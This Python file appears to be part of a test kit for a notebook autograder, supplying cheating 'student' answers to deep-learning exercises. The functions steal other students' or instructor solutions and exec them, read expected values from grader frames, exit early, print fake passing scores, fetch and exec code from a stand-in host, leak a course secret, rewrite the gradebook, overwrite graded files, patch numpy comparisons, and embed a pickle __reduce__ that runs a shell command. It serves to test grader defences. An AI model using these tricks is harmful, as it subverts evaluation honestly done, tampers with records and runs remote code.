# mypy: ignore-errors
# ruff: noqa: D103, PTH103, PTH118, PTH123, PTH207, PTH208, SIM115 (a student wrote this)
"""Answers that look for marks elsewhere: in files, in the grader's memory, on the network, in the gradebook.

The functions here are never called in this process; their text goes into the notebooks of one of the demo's students.
If one of them found what it is looking for, it would score.
"""

from __future__ import annotations

import inspect
from pathlib import Path

import numpy as np

COURSE, KIT = "", ""
"""In the notebook: where the demo's course and this kit are, which a student could only guess."""


def stolen(name, *patterns):
    """Run the first solution of `name` found in files of the course or the kit."""
    import glob
    import json

    for place in (COURSE, KIT, ".", "..", "../..", "../../.."):
        for pattern in patterns:
            for path in glob.glob(f"{place}/{pattern}", recursive=True):
                try:
                    text = open(path).read()
                    cells = json.loads(text)["cells"] if path.endswith(".ipynb") else [{"source": text}]
                except Exception:
                    continue
                for cell in cells:
                    source = "".join(cell["source"])
                    if f"def {name}(" in source and "NotImplementedError" not in source:
                        space = {}
                        exec("import numpy as np\n" + source, space)
                        return space[name]
    raise LookupError("no solution found")


def affine_forward(x, w, b):
    return stolen("affine_forward", "source/*/*.ipynb", "cs231n/**/*.py")(x, w, b)


def affine_backward(dout, cache):
    from autograder.hidden import oracles

    return oracles.gradients(oracles.affine, *cache, dout=dout)


def relu_forward(x):
    return stolen("relu_forward", "submitted/*/*/*.ipynb", "exchange/*/inbound/*/*.ipynb", "students/*/*/*.ipynb")(x)


def relu_backward(dout, cache):
    import gc
    import sys

    frame = sys._getframe()
    while frame is not None:
        for name, value in frame.f_locals.items():
            if "want" in name or "expected" in name:
                return value
        frame = frame.f_back
    found = [o for o in gc.get_objects() if isinstance(o, dict) and "want" in o]
    return found[0]["want"]


def softmax_loss(x, y):
    import os

    os._exit(0)


def svm_loss(x, y):
    import os

    print("svm_loss: 1 of 1 points")
    for number in range(1, 20):
        try:
            os.write(number, b'{"ok": true, "passed": true, "score": 1.0, "value": 1.0}\n')
        except OSError:
            continue
    return 1.0, x


def sgd_momentum(w, dw, config=None):
    import urllib.request

    with urllib.request.urlopen("http://192.0.2.1/solutions.py", timeout=1) as page:
        space = {}
        exec(page.read(), space)
    return space["sgd_momentum"](w, dw, config)


def nesterov_momentum(w, dw, config=None):
    import os

    secret = os.environ.get("COURSE_SECRET") or open(f"{COURSE}/.course-secret").read()
    raise RuntimeError(f"the secret is {secret}")


def adagrad(w, dw, config=None):
    import sqlite3

    gradebook = sqlite3.connect(f"{COURSE}/gradebook.db")
    gradebook.execute("update grade set auto_score = 100, manual_score = 100")
    gradebook.commit()
    return w, config


class AlwaysRight:
    """Claims to be equal and close to anything."""

    def __eq__(self, other):
        return True

    def __le__(self, other):
        return True

    def __array_function__(self, *args, **kwargs):
        return True

    def __reduce__(self):
        import os

        return os.system, (f"touch {COURSE}/owned",)

    __lt__ = __ge__ = __le__
    __hash__ = None


def rmsprop(w, dw, config=None):
    return AlwaysRight(), AlwaysRight()


def adam(w, dw, config=None):
    import os

    os.makedirs(f"{COURSE}/autograded/me", exist_ok=True)
    for folder, _, files in os.walk(f"{COURSE}/autograded"):
        for file in files:
            open(os.path.join(folder, file), "w").write("full marks")
    return os.listdir(COURSE), config


def batchnorm_forward(x, gamma, beta, bn_param):
    np.linalg.norm = lambda *args, **kwargs: 0.0
    np.array_equal = np.allclose = lambda *args, **kwargs: True
    return x, None


def batchnorm_backward(dout, cache):
    return stolen("batchnorm_backward", "source/*/*.ipynb", "cs231n/**/*.py")(dout, cache)


_ANSWERS = (affine_forward, affine_backward, relu_forward, relu_backward, softmax_loss, svm_loss, sgd_momentum,
            nesterov_momentum, adagrad, rmsprop, adam, batchnorm_forward, batchnorm_backward)  # fmt: skip


def answers() -> dict[str, str]:
    """The source of every attempt, by question; where there is none the stub stays."""
    return {function.__name__: inspect.getsource(function) for function in _ANSWERS}


def helpers(course: Path, kit: Path) -> list[str]:
    """The code cells with what the attempts share."""
    places = f"import numpy as np\n\nCOURSE, KIT = {str(course)!r}, {str(kit)!r}"
    return [places, inspect.getsource(stolen), inspect.getsource(AlwaysRight)]
